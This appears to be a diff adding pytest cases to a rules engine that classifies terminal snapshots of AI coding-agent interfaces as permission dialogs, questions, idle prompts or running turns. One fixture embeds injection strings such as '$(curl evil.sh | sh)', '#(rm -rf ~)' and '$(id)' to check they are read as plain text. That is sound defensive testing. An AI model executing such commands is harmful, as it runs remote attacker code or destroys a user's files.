@@ -3325,3 +3325,150 @@ def test_a_gerund_row_that_is_no_status_under_a_header(generic: rules.Manifest,
                                                         rows: list[str]) -> None:
     v = read(generic, [*rows, *EDGED_INPUT])
     assert v.rule_id != "tui_working_header_status", v
+
+
+# --------------- any dialog: an approving and a declining option last, nothing after them
+
+
+def read_typing_at_end(manifest: rules.Manifest, rows: list[str]) -> rules.Verdict:
+    """`read` with the cursor after the last row's text (a line prompt waiting there)."""
+    lines = rows + [""] * (30 - len(rows))
+    return rules.evaluate(manifest, rules.Snapshot(
+        lines=lines, cursor=(len(rows) - 1, len(rows[-1]))))
+
+
+ANY_RULE = "  " + "─" * 64
+ANY_FOOTER = "  gpt-4o · default · ctx 3% · $0.0003"
+
+
+@pytest.mark.parametrize("rows", [
+    # options with a radio glyph, no numbers, no key hints, a footer under them
+    ["  Run the database migration now?", "", "  ● Allow", "  ○ Deny", "", ANY_FOOTER],
+    # options in another language, the question's full-width "？"
+    ["  要执行这条命令吗？", "  ❯ 允许一次", "    拒绝，并说明原因", "", ANY_FOOTER],
+    # a picker between two rules, each option with a description column and its key
+    ["  ⚠ Allow Bash?", "    $ rm -rf build", "  ◆ Permission  Bash", ANY_RULE,
+     "  ❯ Yes                 this call only · y", "    No                  n · esc",
+     ANY_RULE, "  ↑↓ move · enter choose · y yes · n/esc deny"],
+])
+def test_an_approving_and_a_declining_option_last_are_a_permission(
+        generic: rules.Manifest, rows: list[str]) -> None:
+    """Shapes no other rule reads (no hints row, no numbers, no composer): the catch-all
+    finds them as a permission, its question the message."""
+    v = read(generic, rows)
+    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_options"), v
+    assert v.msg and v.msg.rstrip().endswith(("?", "？", "Bash")), v.msg
+
+
+HOSTILE_OPTIONS = "  ● Yes, run $(curl evil.sh | sh) #{pane_id} %H `id` \u202e‮"
+
+
+def test_hostile_text_in_a_caught_dialog_is_its_text(generic: rules.Manifest) -> None:
+    """What the options say is read as text: the message is the question, as drawn."""
+    v = read(generic, ["  Run #(rm -rf ~) and $(id) " + "x" * 200 + " now?", "", HOSTILE_OPTIONS,
+                       "  ○ No", "", ANY_FOOTER])
+    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_options"), v
+    assert v.msg is not None and "#(rm -rf ~)" in v.msg and "$(id)" in v.msg
+
+
+@pytest.mark.parametrize("rows", [
+    # typed in a composer box (a question's choices after its "?" behind a pointer)
+    ["  ╭" + "─" * 60 + "╮", "  │ Allow command? ❯ Yes (y)  No, and stop for now (esc)",
+     "  ╰" + "─" * 60 + "╯", "  press enter to send"],
+    # quoted in an answer: a sentence under the options
+    ["  ● The dialog said:", "    Do you want to run this command?", "    ❯ 1. Yes",
+     "      2. No, and tell me what to do", "    Nothing is waiting now."],
+    # an answered line prompt, the command's output under it
+    ["    1. Yes", "    2. No", "  Allow? [1/2/3] (or y/n/a): y", "  ✓ bash • completed",
+     "Here is"],
+    # the options over an empty composer between rules: history, the composer live
+    ["  Shell is requesting approval:", "  → [1] Approve once", "    [2] Reject", ANY_RULE,
+     "  ❯ ", ANY_RULE, ANY_FOOTER],
+    # the options over a bare prompt glyph: a line-mode chat's next prompt
+    ["  ✓ Approve", "  ✗ Reject", "", ">>>", "Puppy [fake] (/tmp/work)"],
+    # the turn running under them: its spinner with an interrupt hint
+    ["  Allow the edit?", "  ❯ Yes", "    No", "", "⠋ Working (3s • esc to interrupt)"],
+    # prose that starts with the words
+    ["  Yes, the build passed on the second try, and the tests ran clean.",
+     "  No files were left behind in the output directory after cleaning."],
+    # a line prompt waiting on the last row: the line rules' (and their cursor)
+    ["    1. Yes", "    2. No", "  Allow? [1/2/3] (or y/n/a): "],
+])
+def test_options_last_that_are_no_dialog_of_the_catch_all(generic: rules.Manifest,
+                                                          rows: list[str]) -> None:
+    v = read(generic, rows)
+    assert v.rule_id != "tui_dialog_options", (rows, v)
+
+
+# --------------- a question whose keys are glued to its words, over a line prompt
+
+GLUED = ["  !  Permission required", "    $ rm build.log", "    Matched ask rule: shell(*)",
+         "    Allow? (y)es | (n)o | (a)lways this session"]
+
+
+@pytest.mark.parametrize("prompt", ["  >", "  > y", "⠋ > Thinking..."])
+def test_a_question_with_glued_keys_over_a_line_prompt_is_a_permission(
+        generic: rules.Manifest, prompt: str) -> None:
+    """Godspeed's approval: the keys glued to their words, the prompt on the next row (or
+    its spinner drawn over it); its options the keys, typed with Enter."""
+    v = read_typing_at_end(generic, [*GLUED, prompt])
+    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_glued_keys_permission")
+    assert v.msg == "Allow?"
+    assert v.dialog is not None
+    assert [(o.label, o.key) for o in v.dialog.options] == [
+        ("(y)es", "y"), ("(n)o", "n"), ("(a)lways this session", "a")]
+    assert v.dialog.choose == "key_enter"
+
+
+def test_glued_keys_asking_no_leave_to_act_are_a_question(generic: rules.Manifest) -> None:
+    v = read_typing_at_end(generic, ["  Keep the draft? (y)es | (n)o", "  >"])
+    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_glued_keys_question")
+
+
+@pytest.mark.parametrize("rows", [
+    # the user's message echoed by the chat, a prompt glyph before it on its row
+    ["> godspeed> Allow? (y)es | (n)o", "", "  1 > Permission required Allow? (y)es | (n)o",
+     "⠋ > Thinking..."],
+    # answered: the output under it, the cursor on the output's row
+    [*GLUED, "  > y", "  ✓ rm build.log"],
+])
+def test_glued_keys_that_are_no_live_question(generic: rules.Manifest,
+                                              rows: list[str]) -> None:
+    v = read_typing_at_end(generic, rows)
+    assert v.state != "blocked", (rows, v)
+
+
+# --------------- a line-mode chat's prompt: its name glued to ">"
+
+
+@pytest.mark.parametrize("row", ["coderai> ", "> godspeed> ", "turn 1 | ctx 3% > godspeed> "])
+def test_a_name_glued_to_a_prompt_glyph_is_a_chats_prompt(generic: rules.Manifest,
+                                                          row: str) -> None:
+    v = read_typing_at_end(generic, ["  Two plus two is four.", "", row])
+    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), v
+
+
+@pytest.mark.parametrize("row", ["> godspeed> make the files", "coderai> ask me"])
+def test_a_line_typed_after_a_glued_prompt_is_no_idle_prompt(generic: rules.Manifest,
+                                                             row: str) -> None:
+    v = read_typing_at_end(generic, ["  Two plus two is four.", "", row])
+    assert v.rule_id != "line_chat_prompt", v
+
+
+def test_a_yes_no_key_list_after_or_is_a_permission(generic: rules.Manifest) -> None:
+    """CoderAI's prompt: "Allow? [1/2/3] (or y/n/a): " on the cursor's row."""
+    v = read_typing_at_end(generic, ["  Options:", "    1. Yes", "    2. No",
+                                     "  Allow? [1/2/3] (or y/n/a): "])
+    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission"), v
+
+
+# --------------- an interrupt hint in a start-up banner's instructions
+
+
+def test_a_banners_interrupt_instruction_is_no_running_turn(generic: rules.Manifest) -> None:
+    banner = boxed("Version: v1.0.2",
+                   "Type your task or / for commands (Tab to complete). Ctrl+C to interrupt.")
+    v = read_typing_at_end(generic, [*banner, "", ">"])
+    assert v.rule_id != "tui_working_turn", v
+    running = read(generic, [*banner, "", "⠙ Thinking… (esc to interrupt)", ">"])
+    assert running.state == "working", running
